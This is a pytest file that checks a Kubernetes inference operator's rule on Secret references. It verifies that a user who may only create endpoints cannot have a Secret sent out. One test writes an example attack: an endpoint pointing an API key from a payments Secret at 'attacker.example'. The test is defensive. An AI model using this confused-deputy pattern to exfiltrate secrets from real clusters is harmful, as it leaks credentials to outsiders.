"""Who may make the operator read what (README "Security"): a user who may create InferenceEndpoints but not read
or write Secrets cannot have the operator send a Secret's value to Elasticsearch. A Secret is used only when it
carries the opt-in label, which only someone who may write the Secret can add."""

from __future__ import annotations

import time
import uuid

import pytest

from testbed.controlplane import ControlPlane
from tests.support import Kube, Stack, endpoint_manifest, secret

LABEL = "inference.es-operator.dev/allow-reference"


@pytest.fixture
def es_version() -> str:
    return "9.1.0"  # the rule is the operator's, the same for every Elasticsearch version


@pytest.fixture
def author(control_plane: ControlPlane, namespace: str) -> Kube:
    """kubectl as a user with only the RBAC to manage InferenceEndpoints in the namespace: no Secrets at all."""
    name = f"author-{uuid.uuid4().hex[:6]}"
    control_plane.add_user(name)
    control_plane.kubectl(
        "-n", namespace, "create", "role", "inference-author",
        "--verb=get,list,watch,create,update,patch,delete",
        "--resource=inferenceendpoints.inference.es-operator.dev",
    )  # fmt: skip
    control_plane.kubectl(
        "-n", namespace, "create", "rolebinding", "inference-author", "--role=inference-author", f"--user={name}"
    )
    return Kube(control_plane, namespace, user=name)


def test_a_user_who_may_only_create_endpoints_cannot_send_a_secret_that_did_not_opt_in(
    stack: Stack, kube: Kube, author: Kube
) -> None:
    # The Secret's owner (admin here) keeps a key in the namespace, not meant for inference.
    kube.apply(secret("payments-key", opted_in=False, **{"api-key": "sk-payments"}))
    for verb in ("get", "patch"):
        assert author.run("auth", "can-i", verb, "secret/payments-key", check=False).stdout.strip() == "no"

    # The author names it in an endpoint whose provider URL they chose.
    manifest = endpoint_manifest(
        "exfiltrate",
        service="openai",
        serviceSettings={"model_id": "text-embedding-3-small", "url": "https://attacker.example/v1/embeddings"},
        serviceSettingsSecretRefs={"api_key": {"name": "payments-key", "key": "api-key"}},
    )
    author.apply(manifest)
    refused = author.wait_condition("exfiltrate", "Ready", "False", reason="ReferenceNotAllowed")
    assert f"Secret {kube.namespace}/payments-key (serviceSettingsSecretRefs)" in refused["message"]
    assert refused["message"].endswith(f"kubectl label secret -n {kube.namespace} payments-key {LABEL}=true")
    assert author.condition("exfiltrate", "Stalled")["status"] == "True"  # type: ignore[index]
    # Nothing was sent: no endpoint created or updated, and the value is nowhere in Elasticsearch.
    assert not [r for r in stack.es.requests if r.method in ("PUT", "POST")]
    assert stack.es.state.endpoint("exfiltrate") is None

    # The author cannot opt the Secret in themselves.
    denied = author.run("label", "secret", "payments-key", f"{LABEL}=true", check=False)
    assert denied.returncode != 0 and "forbidden" in denied.stderr.lower()


def test_the_secrets_owner_opts_it_in_and_the_endpoint_is_created(stack: Stack, kube: Kube, author: Kube) -> None:
    kube.apply(secret("openai", opted_in=False, **{"api-key": "sk-meant-for-inference"}))
    author.apply(
        endpoint_manifest(
            "embeddings",
            service="openai",
            serviceSettings={"model_id": "text-embedding-3-small"},
            serviceSettingsSecretRefs={"api_key": {"name": "openai", "key": "api-key"}},
        )
    )
    refused = author.wait_condition("embeddings", "Ready", "False", reason="ReferenceNotAllowed")

    # The command from the message, by someone who may write the Secret: the next resync uses it.
    command = refused["message"].rsplit("runs: ", 1)[1]
    kube.cp.kubectl(*command.removeprefix("kubectl ").split())
    author.wait_condition("embeddings", "Ready", timeout=30)
    assert stack.es.state.secret_settings("embeddings")["api_key"] == "sk-meant-for-inference"


def test_a_connection_secret_must_opt_in_too(stack: Stack, kube: Kube, author: Kube) -> None:
    # No default Elasticsearch: the emulator is then only the Secret's, and its request log is what that Secret's
    # credentials would have been used for (the default's startup check, GET /, would be in it too).
    assert stack.operator is not None
    stack.operator.stop()
    stack.start_operator(ELASTICSEARCH_URL="")
    stack.es.requests.clear()
    kube.apply(secret("search-cluster", opted_in=False, url=stack.es.url, username="elastic", password="changeme"))
    author.apply(endpoint_manifest("elsewhere", elasticsearchRef={"secretName": "search-cluster"}))
    refused = author.wait_condition("elsewhere", "Ready", "False", reason="ReferenceNotAllowed")
    assert f"Secret {kube.namespace}/search-cluster (elasticsearchRef.secretName)" in refused["message"]
    # Not even a GET /: the operator did not use the credentials at all.
    assert len(stack.es.requests) == 0

    # A resource refused from the start created nothing: its deletion goes through without Elasticsearch.
    author.run("delete", "iep", "elsewhere", "--wait=false")
    author.wait_gone("elsewhere", timeout=30)
    assert len(stack.es.requests) == 0


def test_a_fix_the_message_asks_for_is_picked_up_within_seconds(stack: Stack, kube: Kube, author: Kube) -> None:
    """Issue 19: after following a message's advice (a label, a Secret created), the resource goes on within
    seconds, not at the next drift check (here a minute): a resource that waits for a person's fix is looked at
    again within 5 s, and reads what it waits for afresh. Its message says so."""
    assert stack.operator is not None
    stack.operator.stop()
    stack.start_operator(OPERATOR_RESYNC_SECONDS="60", OPERATOR_REFERENCES_SECONDS="60")
    spec = {
        "service": "openai",
        "serviceSettings": {"model_id": "text-embedding-3-small"},
        "serviceSettingsSecretRefs": {"api_key": {"name": "openai", "key": "api-key"}},
    }
    kube.apply(secret("openai", opted_in=False, **{"api-key": "sk-meant-for-inference"}))
    author.apply(endpoint_manifest("labelled-late", **spec))
    refused = author.wait_condition("labelled-late", "Ready", "False", reason="ReferenceNotAllowed")
    assert "(checked again within 5 s)" in refused["message"]
    stack.wait_for_reconciles(3)  # a few looks: its backoff is at its longest
    started = time.monotonic()
    kube.cp.kubectl(*refused["message"].rsplit("runs: ", 1)[1].removeprefix("kubectl ").split())
    author.wait_condition("labelled-late", "Ready", timeout=10)
    print(f"label -> Ready: {time.monotonic() - started:.1f} s")

    author.apply(endpoint_manifest("secret-late", **{**spec, "serviceSettingsSecretRefs": {
        "api_key": {"name": "created-late", "key": "api-key"}}}))  # fmt: skip
    missing = author.wait_condition("secret-late", "Ready", "False", reason="ConfigurationError")
    assert "created-late" in missing["message"] and "(checked again within 5 s)" in missing["message"]
    stack.wait_for_reconciles(3)
    started = time.monotonic()
    kube.apply(secret("created-late", **{"api-key": "sk-late"}))
    author.wait_condition("secret-late", "Ready", timeout=10)
    print(f"Secret created -> Ready: {time.monotonic() - started:.1f} s")


def test_the_default_elasticsearch_serves_only_the_namespaces_its_administrator_lists(
    stack: Stack, kube: Kube, author: Kube
) -> None:
    """OPERATOR_DEFAULT_ELASTICSEARCH_NAMESPACES: a resource that names no elasticsearchRef, in a namespace not
    listed, is refused with words that say who can allow it, and nothing reaches Elasticsearch, neither while it
    exists nor when it is deleted. The namespace's own Elasticsearch (a connection Secret) is not concerned."""
    assert stack.operator is not None
    stack.operator.stop()
    stack.start_operator(OPERATOR_DEFAULT_ELASTICSEARCH_NAMESPACES="team-search, team-ml")
    stack.es.requests.clear()

    author.apply(endpoint_manifest("e5"))
    refused = author.wait_condition("e5", "Ready", "False", reason="ReferenceNotAllowed")
    assert refused["message"].startswith(
        f"namespace {kube.namespace} may not use the operator's default Elasticsearch (the resource names no "
        f"spec.elasticsearchRef), so nothing is sent to Elasticsearch ("
    )
    assert refused["message"].endswith(
        f"or ask the operator's administrator to add {kube.namespace} to the setting "
        f"OPERATOR_DEFAULT_ELASTICSEARCH_NAMESPACES (with the Helm chart, the value elasticsearch.allowedNamespaces)"
    )
    assert "team-search" not in refused["message"]  # other tenants' namespaces are not shown
    assert author.condition("e5", "Stalled")["status"] == "True"  # type: ignore[index]

    # An Elasticsearch of the namespace's own is used as ever.
    kube.apply(secret("own-cluster", url=stack.es.url, username="elastic", password="changeme"))
    author.apply(endpoint_manifest("own", elasticsearchRef={"secretName": "own-cluster"}))
    author.wait_condition("own", "Ready", timeout=30)

    # The refused resource owns nothing: its deletion goes without Elasticsearch.
    author.run("delete", "iep", "e5", "--wait=false")
    author.wait_gone("e5", timeout=30)
    assert not [r for r in stack.es.requests if "/e5" in r.path]

    # The administrator adds the namespace (and restarts the operator, which reads its settings at start).
    author.apply(endpoint_manifest("e6"))
    author.wait_condition("e6", "Ready", "False", reason="ReferenceNotAllowed")
    assert not [r for r in stack.es.requests if "/e6" in r.path]
    stack.operator.stop()
    stack.start_operator(OPERATOR_DEFAULT_ELASTICSEARCH_NAMESPACES=f"team-search,{kube.namespace}")
    author.wait_condition("e6", "Ready", timeout=30)
    assert stack.es.state.endpoint("e6") is not None
